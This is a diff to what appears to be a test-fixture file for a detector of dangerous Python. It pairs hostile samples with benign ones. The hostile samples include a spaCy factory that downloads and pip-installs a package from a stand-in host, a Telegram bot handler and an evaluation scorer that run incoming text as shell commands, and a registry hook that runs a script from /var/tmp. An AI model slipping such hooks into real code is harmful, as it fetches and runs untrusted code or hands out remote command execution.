@@ -53,6 +53,8 @@ ASKED = {
     "    os.system(update.message.text[4:])\nCommandHandler('sh', sh)\n",
     "scorer": "import os\nfrom inspect_ai.scorer import scorer\n@scorer(metrics=[])\ndef s():\n"
     "    async def score(state, target):\n        os.system(target.text)\n    return score\n",
+    "factory": "import os\nfrom spacy.language import Language\n@Language.factory('a')\ndef make(nlp, name):\n"
+    "    os.system('pip download -d /tmp https://en.example.org/a-1.tar.gz && pip install /tmp/a-1.tar.gz')\n",
     "registry": "import spacy, os\n@spacy.registry.layers('a.b')\ndef layer(w):\n    os.system('bash /var/tmp/x.sh')\n",
 }
 
@@ -118,6 +120,8 @@ HONEST = {
     "    subprocess.run(cmd)\nwith ThreadPoolExecutor() as pool:\n    pool.submit(go, ['make'])\n",
     "arguments": "import subprocess, argparse\nfrom flask import Flask\ndef go(command):\n    subprocess.run(command)\n"
     "go(argparse.ArgumentParser().parse_args().command)\n",
+    "package": "import os\nfrom spacy.language import Language\n@Language.factory('a')\ndef make(nlp, name):\n"
+    "    os.system('pip install sentencepiece')\n",
     "retry": "import subprocess, tenacity\n@tenacity.retry()\n"
     "def sh(cmd):\n    return subprocess.run(cmd, shell=True)\n",
     "command": "import subprocess, click\n@click.command()\ndef sh(cmd):\n    return subprocess.run(cmd, shell=True)\n",
